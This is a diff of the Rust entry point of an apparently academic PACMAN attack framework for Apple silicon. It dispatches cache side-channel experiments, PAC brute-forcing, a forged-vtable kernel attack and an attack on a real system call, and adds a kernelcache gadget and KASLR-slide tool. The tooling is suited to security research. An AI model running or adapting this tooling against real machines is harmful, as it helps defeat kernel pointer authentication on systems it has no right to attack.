@@ -1,105 +1,197 @@
-#![allow(unused_imports)]
-#![allow(unused_variables)]
-#![allow(unused_unsafe)]
-#![allow(unused_parens)]
-#![allow(unused_mut)]
-#![allow(non_snake_case)]
-#![allow(unused_must_use)]
-
-pub mod libdarwin;
-pub mod qos;
-pub mod retpoline;
-pub mod tests;
-pub mod counter;
-pub mod evset;
-pub mod pacmankit;
-pub mod cache;
-pub mod msr;
-pub mod attacks;
-pub mod pac;
-
-// Switch this with timer_multithread.rs to use that instead
-#[path="timer_msr.rs"]
-pub mod timer;
-
-use libdarwin::*;
-use timer::*;
-use mach::*;
-use qos::*;
-use retpoline::*;
-use tests::*;
-use counter::*;
-use evset::*;
-use kernel_rw::*;
-use iokit::*;
-use std::thread;
-use core::ptr::{read_volatile, write_volatile};
-use core::arch::asm;
-use std::ffi::{CString, CStr};
-use pacmankit::*;
-use cache::*;
-use std::collections::LinkedList;
-use attacks::*;
-use attacks::pacman::*;
-use pac::*;
-
-use rand::thread_rng;
-use rand::prelude::SliceRandom;
-
-/// How many bytes of memory should we create?
-pub const MEM_REGION_SIZE : usize = 0x40000000000usize;
-
-pub unsafe fn init_memory(memory_region: &mut [u8]) {
-    let mut iter = 0;
-    for i in (0..memory_region.len()).step_by(evset::STRIDE) {
-        if iter >= evset::EVSET_SIZE_MAX { break; }
-        core::ptr::write_volatile(&mut memory_region[i], 0x41);
-        core::ptr::read_volatile(&memory_region[i]);
-        iter+=1;
-    }
-}
+/*!
+ * The experiment runner: picks an experiment on the command line and runs it.
+ *
+ * Experiments need Apple silicon running macOS. Everywhere else only `replay`, `kernelcache` and `covert` (against
+ * the simulated kernel) are available.
+ */
+// The repo style is `return x;` everywhere
+#![allow(clippy::needless_return)]
 
-/// Flush the entire L2 cache
-pub unsafe fn flush_cache(memory_region: &mut [u8]) {
-    for i in (0..cache::L2_SIZE).step_by(cache::L1D_LINESIZE) {
-        core::ptr::write_volatile(&mut memory_region[i], 0x41);
-        core::ptr::read_volatile(&memory_region[i]);
-    }
-}
+mod cli;
 
-/// Flush the L1 iCache
-/// The provided address `retpoline` should be a cache::L1I_SIZE region filled with `ret`s.
-pub unsafe fn flush_iCache(retpoline: u64) {
-    let retpoline_unsigned = retpoline & (!PAC_BITMASK);
-    for i in (0..cache::L2_SIZE).step_by(cache::L1I_LINESIZE) {
-        timer::time_exec(retpoline_unsigned + i as u64);
-    }
-}
+use pacman::config::AttackConfig;
+use pacman::trace;
+use pacman::kernelcache::{gadgets, pointers, macho::MachO, symbols::{KernelSymbols, SymbolicAddress}};
+use cli::*;
+use clap::Parser;
+
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+use {
+    pacman::{attacks, covert, timer},
+    pacman::attacks::spectre_sweep::SpectreGadget,
+    pacman::counter::*,
+    pacman::error::PacmanError,
+    pacman::libdarwin::crandom,
+    pacman::libdarwin::mach::*,
+    pacman::libdarwin::sysctl::sysctl_string,
+    pacman::profile::{self, OffsetProfile, OffsetProfiles},
+    pacman::memory::*,
+    pacman::pacmankit::PacmanKitConnection,
+    pacman::remote::{self, Address},
+    pacman::session::{SessionRecorder, SessionReplay},
+    pacman::qos::*,
+    pacman::results::{self, OutputFormat, ResultsSink},
+    pacman::trace::TraceRecorder,
+    core::ptr::read_volatile,
+    std::thread,
+};
+
+#[cfg(not(all(target_os = "macos", target_arch = "aarch64")))]
+use {
+    pacman::{covert, evset, results, sim, timer},
+    pacman::results::OutputFormat,
+    std::sync::{Arc, Mutex},
+};
 
 /**
- * Run the attacker payload.
+ * Run the experiment picked on the command line.
  *
  * # Arguments
+ * * `command`: Which experiment to run.
+ * * `config`: Parameters for the experiment (with the command line flags already applied).
  * * `shared_mem`: A memory buffer (represented as a slice) that can be used for experiments.
+ * * `sink`: Where the experiment should record its results.
+ * * `trace`: Where PACMAN experiments should record their raw trials (if anywhere).
+ * * `kernel`: Where to get PacmanKit connections from.
+ * * `profile`: The offsets for the running kernel (only loaded for experiments that need them, see `needs_profile`).
+ * * `symbols`: The running kernel's kernelcache (if one was given), to resolve symbolic addresses against.
+ *
+ * # Return Value
+ * The first kernel operation that failed (if any).
+ */
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+pub unsafe fn attack(command: &Command, config: &AttackConfig, shared_mem: &mut [u8], sink: &mut dyn ResultsSink, mut trace: Option<&mut TraceRecorder>, kernel: &Connector, profile: Option<&OffsetProfile>, symbols: Option<&KernelSymbols>) -> Result<(), PacmanError> {
+    // Experiments talk to the kernel through this (PACMAN experiments open a second connection to attack)
+    let handle = kernel.connect()?;
+
+    match *command {
+        // Various evict+reload / prime+probe / spectre tests
+        Command::EvictReload { kind, kernel, kernel_evset } => {
+            let params = config.evict_reload;
+            match (kind, kernel, kernel_evset) {
+                (Kind::Data, false, _) => attacks::evict_reload::data_evict_reload(&handle, shared_mem, &params, sink)?,
+                (Kind::Inst, false, _) => attacks::evict_reload::inst_evict_reload(&handle, shared_mem, &params, sink)?,
+                (Kind::Data, true, false) => attacks::evict_reload::data_evict_reload_kernel(&handle, shared_mem, &params, sink)?,
+                (Kind::Data, true, true) => attacks::evict_reload::data_evict_reload_kernel_kernel_evset(&handle, shared_mem, &params, sink)?,
+                // `Command::validate` rejects --kernel-evset for inst
+                (Kind::Inst, true, _) => attacks::evict_reload::inst_evict_reload_kernel(&handle, shared_mem, &params, sink)?,
+            }
+        },
+
+        // `Command::validate` rejects --chain for data
+        Command::PrimeProbe { kind: Kind::Data, .. } => {
+            attacks::prime_probe::data_prime_probe(&handle, shared_mem, &config.prime_probe.data, sink)?;
+        },
+
+        Command::PrimeProbe { kind: Kind::Inst, chain } => {
+            let profile = profile.expect("run() loads the offset profile for inst prime+probe");
+            let inst_target = match &config.pacman.inst_target {
+                Some(v) => v,
+                None => profile.gadget(profile::INST_TARGET)?,
+            };
+            let offset = inst_target.offset_from_base(symbols).map_err(|err| PacmanError::Unresolved { name: profile::INST_TARGET, kind: err.kind() })?;
+
+            // Say which kext (and symbol) it is in, so a base relative target can be checked and rewritten
+            if let Some(symbols) = symbols {
+                println!("Inst target {} is {}", inst_target, symbols.symbolicate(symbols.base_address() + offset));
+            }
+            attacks::prime_probe::inst_prime_probe(&handle, shared_mem, &config.prime_probe.inst, offset, chain, sink)?;
+        },
+
+        Command::Spectre { kind: Kind::Data, user: true } => {
+            attacks::spectre::data_spectre(shared_mem, sink)?;
+        },
+
+        // `Command::validate` rejects --user for inst
+        Command::Spectre { kind, .. } => {
+            let sweep = match kind {
+                Kind::Data => config.spectre.data.sweep(SpectreGadget::Read, &config.spectre_sweep),
+                Kind::Inst => config.spectre.inst.sweep(SpectreGadget::Exec, &config.spectre_sweep),
+            };
+            for result in attacks::spectre_sweep::spectre_sweep(&handle, shared_mem, &sweep, None, sink)? {
+                println!("{}", result);
+            }
+        },
+
+        Command::SpectreSweep => {
+            for result in attacks::spectre_sweep::spectre_sweep(&handle, shared_mem, &config.spectre_sweep, profile, sink)? {
+                println!("{}", result);
+            }
+        },
+
+        Command::SpecWindow => {
+            attacks::spec_window::spec_window(shared_mem, &config.spec_window, sink)?;
+        },
+
+        Command::Covert => {
+            let report = covert::channel::covert_channel(shared_mem, &config.covert, sink)?;
+            println!("{}", report);
+        },
+
+        // PACMAN Inst/ Data
+        Command::Pacman { mode, kind: Kind::Data } => {
+            let profile = profile.expect("run() loads the offset profile for PACMAN experiments");
+            let victim_handle = kernel.connect()?;
+            attacks::pacman::data_testing(&handle, &victim_handle, shared_mem, mode == PacmanMode::Bruteforce, &config.pacman, profile, sink, trace.as_deref_mut())?;
+        },
+
+        Command::Pacman { mode, kind: Kind::Inst } => {
+            let profile = profile.expect("run() loads the offset profile for PACMAN experiments");
+            let victim_handle = kernel.connect()?;
+            attacks::pacman::inst_testing(&handle, &victim_handle, shared_mem, mode == PacmanMode::Bruteforce, &config.pacman, profile, sink, trace.as_deref_mut())?;
+        },
+
+        // Forge a vtable pointer and entry
+        Command::EndToEnd => {
+            let profile = profile.expect("run() loads the offset profile for PACMAN experiments");
+            let victim_handle = kernel.connect()?;
+            attacks::pacman::end_to_end(&handle, &victim_handle, shared_mem, &config.pacman, profile, sink, trace.as_deref_mut())?;
+        },
+
+        // Attack a real system call
+        Command::Real => {
+            let profile = profile.expect("run() loads the offset profile for real attacks");
+            attacks::pacman::pacman_real(&handle, shared_mem, &config.pacman, profile, sink)?;
+        },
+
+        // Handled before any experiment is set up
+        Command::PlatformInfo | Command::Replay { .. } | Command::Kernelcache { .. } => {},
+    }
+
+    return Ok(());
+}
+
+/**
+ * Where experiments get their PacmanKit connections from.
  */
-pub unsafe fn attack(shared_mem: &mut [u8]) {
-    // Various evict+reload / prime+probe / spectre tests
-    // attacks::evict_reload::inst_evict_reload(shared_mem);
-    // attacks::evict_reload::data_evict_reload(shared_mem);
-    // attacks::evict_reload::inst_evict_reload_kernel(shared_mem);
-    // attacks::evict_reload::data_evict_reload_kernel(shared_mem);
-    // attacks::prime_probe::inst_prime_probe(shared_mem);
-    // attacks::spectre::inst_spectre_kernel(shared_mem);
-
-    // PACMAN Inst/ Data
-    // attacks::pacman::data_testing(shared_mem, true);
-    // attacks::pacman::inst_testing(shared_mem, true);
-
-    // Forge a vtable pointer and entry
-    attacks::pacman::end_to_end(shared_mem);
-
-    // Attack a real system call
-    // attacks::pacman::pacman_real(shared_mem);
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+pub struct Connector {
+    /// The PacmanKit server to run kernel operations on (if not the local kext)
+    pub remote: Option<Address>,
+
+    /// Where to record every call (if anywhere)
+    pub recorder: Option<SessionRecorder>,
+
+    /// A recorded session to answer every call from instead of the kernel
+    pub replay: Option<SessionReplay>,
+}
+
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+impl Connector {
+    /**
+     * Open a connection to PacmanKit for an experiment.
+     */
+    unsafe fn connect(&self) -> Result<PacmanKitConnection, PacmanError> {
+        let connection = match (&self.replay, &self.remote) {
+            (Some(replay), _) => replay.connect()?,
+            (None, Some(address)) => remote::connect(address)?,
+            (None, None) => PacmanKitConnection::init()?,
+        };
+        return Ok(match &self.recorder {
+            Some(recorder) => recorder.record(connection),
+            None => connection,
+        });
+    }
 }
 
 /**
@@ -108,6 +200,7 @@ pub unsafe fn attack(shared_mem: &mut [u8]) {
  * # Arguments
  * `shared_mem`: At least 1 page of memory that has never been read from/ written to.
  */
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
 pub unsafe fn report_platform_info(shared_mem: &mut [u8]) {
     // It's cool to reuse the same page for measuring miss latency after doing a hit measurement,
     // just not the other way around.
@@ -119,12 +212,207 @@ pub unsafe fn report_platform_info(shared_mem: &mut [u8]) {
     println!("Miss took {} cycles", miss_latency);
     println!("Timer overhead is {} cycles", timer_overhead);
     println!("We are on core {}", core_id());
+    println!("OS build {} on {}", sysctl_string("kern.osversion").unwrap_or_default(), sysctl_string("hw.model").unwrap_or_default());
+}
+
+/**
+ * Does `command` attack kernel structures or gadgets (and so need the offset profile for the running kernel)?
+ * A spectre sweep only does if it attacks the service routine.
+ */
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+pub fn needs_profile(command: &Command, config: &AttackConfig) -> bool {
+    return match command {
+        Command::Pacman { .. } | Command::EndToEnd | Command::Real | Command::PrimeProbe { kind: Kind::Inst, .. } => true,
+        Command::SpectreSweep => config.spectre_sweep.gadgets.contains(&SpectreGadget::ServiceRoutine),
+        _ => false,
+    };
+}
+
+/**
+ * Load the offset profile for the running OS build and device, from `path` or the built in profiles.
+ * Returns a description of what's missing if there isn't one.
+ */
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+pub fn load_profile(path: Option<&str>) -> Result<OffsetProfile, String> {
+    let profiles = match path {
+        Some(path) => OffsetProfiles::load(path).map_err(|err| format!("{}: {}", path, err))?,
+        None => OffsetProfiles::builtin(),
+    };
+    let build = sysctl_string("kern.osversion").ok_or("Couldn't read kern.osversion")?;
+    let device = sysctl_string("hw.model").ok_or("Couldn't read hw.model")?;
+    return profiles.find(&build, &device).cloned();
+}
+
+/**
+ * Read the kexts and symbols of the kernelcache at `path`.
+ * Returns a description of what went wrong if it can't be read.
+ */
+pub fn load_symbols(path: &str) -> Result<KernelSymbols, String> {
+    let data = std::fs::read(path).map_err(|err| format!("{}: {}", path, err))?;
+    let kernelcache = MachO::parse(&data).map_err(|err| format!("{}: {}", path, err))?;
+    return KernelSymbols::from_kernelcache(&kernelcache).map_err(|err| format!("{}: {}", path, err));
 }
 
 /**
- * Setup the execution environment and launch the attack/ traces.
+ * Replay a recorded trace through the PACMAN decision logic instead of running an attack.
+ * Uses the data gadget's `miss_latency` and `how_far_above_average`.
+ *
+ * Doesn't touch any hardware, so it runs on any machine.
+ */
+pub fn replay_main(path: &str, config: &AttackConfig) {
+    let params = config.pacman.data;
+    if let Err(err) = trace::replay_file(path, params.miss_latency, params.how_far_above_average) {
+        println!("Error replaying trace {}! Error is {}", path, err);
+    }
+}
+
+/**
+ * List what's in a kernelcache: every kext with its segments and how many symbols it defines, and how many
+ * of the kernelcache's pointers are signed. With `num_gadgets`, also list the best PACMAN gadgets in it. With
+ * `signed_pointers`, count the signed pointers by key and diversity, and with `symbol`, list the signed pointers
+ * stored in that symbol.
+ *
+ * `resolve` and `symbolicate` translate between symbolic and raw addresses. They're kernelcache addresses, or
+ * addresses in the running kernel if its (leaked) `kernel_base` is given.
+ *
+ * Doesn't touch any hardware, so it runs on any machine.
+ */
+pub fn kernelcache_main(path: &str, num_gadgets: Option<usize>, signed_pointers: bool, symbol: Option<&str>, resolve: &[SymbolicAddress], symbolicate: &[u64], kernel_base: Option<u64>) {
+    let data = match std::fs::read(path) {
+        Ok(v) => v,
+        Err(err) => {
+            println!("Error reading kernelcache {}! Error is {}", path, err);
+            return;
+        }
+    };
+    let kernelcache = match MachO::parse(&data) {
+        Ok(v) => v,
+        Err(err) => {
+            println!("Error parsing kernelcache {}! Error is {}", path, err);
+            return;
+        }
+    };
+
+    println!("{} kexts, base address 0x{:X}", kernelcache.fileset_entries.len(), kernelcache.base_address());
+    for entry in &kernelcache.fileset_entries {
+        let kext = match kernelcache.entry(&entry.id) {
+            Ok(v) => v,
+            Err(err) => {
+                println!("Error parsing {}! Error is {}", entry.id, err);
+                continue;
+            }
+        };
+        let num_symbols = kext.symbols().map(|symbols| symbols.len()).unwrap_or(0);
+        println!("{} at 0x{:X} ({} symbols)", entry.id, entry.vmaddr, num_symbols);
+        for seg in &kext.segments {
+            println!("    {:16} 0x{:X}-0x{:X}", seg.name, seg.vmaddr, seg.vmaddr + seg.vmsize);
+        }
+    }
+
+    match kernelcache.chained_fixups() {
+        Ok(fixups) => {
+            let signed = fixups.iter().filter(|fixup| fixup.auth.is_some()).count();
+            println!("{} pointers, {} of them signed", fixups.len(), signed);
+        },
+        Err(err) => println!("Error walking chained fixups! Error is {}", err),
+    }
+
+    if let Some(num_gadgets) = num_gadgets {
+        let gadgets = match gadgets::scan_kernelcache(&kernelcache) {
+            Ok(v) => v,
+            Err(err) => {
+                println!("Error scanning for gadgets! Error is {}", err);
+                return;
+            }
+        };
+        println!("{} gadgets", gadgets.len());
+        for (id, gadget) in gadgets.iter().take(num_gadgets) {
+            println!("[{}] {} (kernel base + 0x{:X}) in {}", gadget.score(), gadget, gadget.branch - kernelcache.base_address(), id);
+        }
+    }
+
+    if signed_pointers || symbol.is_some() {
+        let signed = match pointers::signed_pointers(&kernelcache) {
+            Ok(v) => v,
+            Err(err) => {
+                println!("Error listing signed pointers! Error is {}", err);
+                return;
+            }
+        };
+        if signed_pointers {
+            for ((key, diversity), count) in pointers::diversities(&signed) {
+                println!("{:?} key, diversity 0x{:04x}: {} pointers", key, diversity, count);
+            }
+        }
+        if let Some(symbol) = symbol {
+            for ptr in pointers::pointers_in(&signed, symbol) {
+                println!("{} (salt 0x{:X})", ptr, ptr.salt());
+            }
+        }
+    }
+
+    if resolve.is_empty() && symbolicate.is_empty() && kernel_base.is_none() {
+        return;
+    }
+    let symbols = match KernelSymbols::from_kernelcache(&kernelcache) {
+        Ok(v) => v,
+        Err(err) => {
+            println!("Error reading symbols! Error is {}", err);
+            return;
+        }
+    };
+    let live = symbols.live(kernel_base.unwrap_or(symbols.base_address()));
+    if kernel_base.is_some() {
+        println!("KASLR slide is 0x{:X}", live.slide);
+    }
+    for addr in resolve {
+        match live.resolve(addr) {
+            Ok(va) => println!("{} is at 0x{:X}", addr, va),
+            Err(err) => println!("Couldn't resolve {}! Error is {}", addr, err),
+        }
+    }
+    for addr in symbolicate {
+        println!("0x{:X} is {}", addr, live.symbolicate(*addr));
+    }
+}
+
+/**
+ * Parse the command line and launch the attack/ traces.
  */
 pub fn main() {
+    let cli = Cli::parse();
+
+    let config = match cli.options.load_config() {
+        Ok(v) => v,
+        Err(err) => {
+            println!("Error loading config! Error is {}", err);
+            std::process::exit(1);
+        }
+    };
+    if let Err(err) = cli.command.validate(&config) {
+        println!("Invalid config! {}", err);
+        std::process::exit(1);
+    }
+
+    if let Command::Replay { trace } = &cli.command {
+        replay_main(trace, &config);
+        return;
+    }
+    if let Command::Kernelcache { path, gadgets, signed_pointers, symbol, resolve, symbolicate, kernel_base } = &cli.command {
+        kernelcache_main(path, *gadgets, *signed_pointers, symbol.as_deref(), resolve, symbolicate, *kernel_base);
+        return;
+    }
+
+    run(&cli, &config);
+}
+
+/**
+ * Setup the execution environment and run the experiment picked on the command line.
+ */
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+fn run(cli: &Cli, config: &AttackConfig) {
+    timer::set_backend(cli.options.timer);
+
     unsafe {
         crandom::srand(mach_absolute_time() as u32);
 
@@ -135,38 +423,185 @@ pub fn main() {
         }
 
         // Setup memory region
-        let mut loc : *mut u8 = 0 as *mut u8;
-        let kret = mach_vm_allocate(
-            mach_task_self(),
-            &mut loc,
-            MEM_REGION_SIZE,
-            VM_FLAGS_ANYWHERE
-        );
-
-        let err_str = CStr::from_ptr(mach_error_string(kret));
-
-        if KERN_SUCCESS != kret {
-            println!("Error creating memory region! ({}). Error is {:?}", kret, err_str);
-            return;
-        }
-
-        println!("Created mach memory region at 0x{:X}", loc as u64);
-        let shared_mem = core::slice::from_raw_parts_mut(
-            loc as *mut u8,
-            MEM_REGION_SIZE
-        );
+        let shared_mem = match alloc_memory_region() {
+            Ok(v) => v,
+            Err(err) => {
+                println!("Error creating memory region! Error is {}", err);
+                return;
+            }
+        };
 
         println!("Shared memory is at 0x{:X}", &shared_mem[0] as *const u8 as usize);
 
         // Create counter thread and sync up with it
         thread::spawn(|| counter_thread());
-        while 0 == read_volatile(&CTR) {}
+        while 0 == read_volatile(core::ptr::addr_of!(CTR)) {}
 
         // Report platform info before shared_mem is initialized
         report_platform_info(shared_mem);
+        if let Command::PlatformInfo = cli.command {
+            return;
+        }
         init_memory(shared_mem);
 
+        // Attacks on kernel structures need their offsets for this OS build
+        let profile = match needs_profile(&cli.command, config) {
+            false => None,
+            true => match load_profile(cli.options.profiles.as_deref()) {
+                Ok(v) => Some(v),
+                Err(err) => {
+                    println!("Refusing to attack this kernel! {}", err);
+                    return;
+                }
+            },
+        };
+
+        // Symbolic addresses (other than kernel base relative ones) resolve against the kernelcache
+        let symbols = match &cli.options.kernelcache {
+            Some(path) => match load_symbols(path) {
+                Ok(v) => Some(v),
+                Err(err) => {
+                    println!("Error loading kernelcache! Error is {}", err);
+                    return;
+                }
+            },
+            None => None,
+        };
+
+        // Open the results file
+        let results_path = &cli.options.output;
+        let mut sink = match results::open_sink(results_path, OutputFormat::from_path(results_path)) {
+            Ok(v) => v,
+            Err(err) => {
+                println!("Error opening results file {}! Error is {}", results_path, err);
+                return;
+            }
+        };
+        println!("Recording results to {}", results_path);
+
+        // Open the trace file
+        let mut trace = match cli.options.trace_path() {
+            Some(path) => match TraceRecorder::create(path) {
+                Ok(v) => {
+                    println!("Recording trials to {}", path);
+                    Some(v)
+                },
+                Err(err) => {
+                    println!("Error opening trace file {}! Error is {}", path, err);
+                    return;
+                }
+            },
+            None => None,
+        };
+
+        // Open the PacmanKit session to record to/ replay from
+        let recorder = match &cli.options.record_calls {
+            Some(path) => match SessionRecorder::create(path) {
+                Ok(v) => {
+                    println!("Recording PacmanKit calls to {}", path);
+                    Some(v)
+                },
+                Err(err) => {
+                    println!("Error opening session file {}! Error is {}", path, err);
+                    return;
+                }
+            },
+            None => None,
+        };
+        let replay = match &cli.options.replay_calls {
+            Some(path) => match SessionReplay::open(path) {
+                Ok(v) => {
+                    println!("Replaying {} PacmanKit calls from {}", v.remaining(), path);
+                    Some(v)
+                },
+                Err(err) => {
+                    println!("Error reading session file {}! Error is {}", path, err);
+                    return;
+                }
+            },
+            None => None,
+        };
+        let kernel = Connector {
+            remote: cli.options.remote.clone(),
+            recorder,
+            replay,
+        };
+
         // Launch attacker code
-        attack(shared_mem);
+        let result = attack(&cli.command, config, shared_mem, sink.as_mut(), trace.as_mut(), &kernel, profile.as_ref(), symbols.as_ref());
+        if let Err(err) = result {
+            println!("Experiment failed! Error is {}", err);
+        }
+        if let Err(err) = sink.flush() {
+            println!("Error writing results file {}! Error is {}", results_path, err);
+            std::process::exit(1);
+        }
+        if let Some(trace) = trace.as_mut() {
+            if let Err(err) = trace.flush() {
+                println!("Error writing trace file {}! Error is {}", cli.options.trace, err);
+                std::process::exit(1);
+            }
+        }
+        if let Some(recorder) = &kernel.recorder {
+            if let Some(err) = recorder.error() {
+                println!("Error recording PacmanKit calls! Error is {}", err);
+            }
+        }
+        if let Some(replay) = &kernel.replay {
+            match replay.divergence() {
+                Some(divergence) => println!("Replay diverged from the recording on connection {} call {}: selector 0x{:X} {:X?} (expected {:X?})",
+                    divergence.connection, divergence.call_index, divergence.selector, divergence.args, divergence.expected),
+                None => println!("Replay followed the recording ({} recorded calls left over)", replay.remaining()),
+            }
+        }
+        if result.is_err() {
+            std::process::exit(1);
+        }
+    }
+}
+
+/**
+ * Experiments can't run here, except for the covert channel against the simulated kernel.
+ */
+#[cfg(not(all(target_os = "macos", target_arch = "aarch64")))]
+fn run(cli: &Cli, config: &AttackConfig) {
+    if let Command::Covert = cli.command {
+        covert_sim_main(&cli.options, config);
+        return;
+    }
+    println!("Experiments need Apple silicon running macOS. Only replay, kernelcache and covert are supported on this machine.");
+}
+
+/**
+ * Run the covert channel against a simulated kernel (its cache is the one the sender and receiver share).
+ */
+#[cfg(not(all(target_os = "macos", target_arch = "aarch64")))]
+fn covert_sim_main(options: &Options, config: &AttackConfig) {
+    let kernel = Arc::new(Mutex::new(sim::kernel::SimulatedKernel::new(rand::random())));
+    sim::kernel::install(&kernel);
+    timer::set_backend(timer::TimerBackend::Simulated);
+
+    // Room for every channel line wherever its set is (the simulated kernel pages it in as it's touched)
+    let lines = config.covert.receiver_evset_size + config.covert.sender_evset_size;
+    let mut memory_region = vec![0u8; (lines + 1) * evset::STRIDE];
+
+    let mut sink = match results::open_sink(&options.output, OutputFormat::from_path(&options.output)) {
+        Ok(v) => v,
+        Err(err) => {
+            println!("Error opening results file {}! Error is {}", options.output, err);
+            return;
+        }
+    };
+    println!("Recording results to {}", options.output);
+    match covert::channel::covert_channel(&mut memory_region, &config.covert, sink.as_mut()) {
+        Ok(report) => println!("{}", report),
+        Err(err) => {
+            println!("Error running the covert channel! Error is {}", err);
+            std::process::exit(1);
+        },
+    }
+    if let Err(err) = sink.flush() {
+        println!("Error writing results file {}! Error is {}", options.output, err);
+        std::process::exit(1);
     }
 }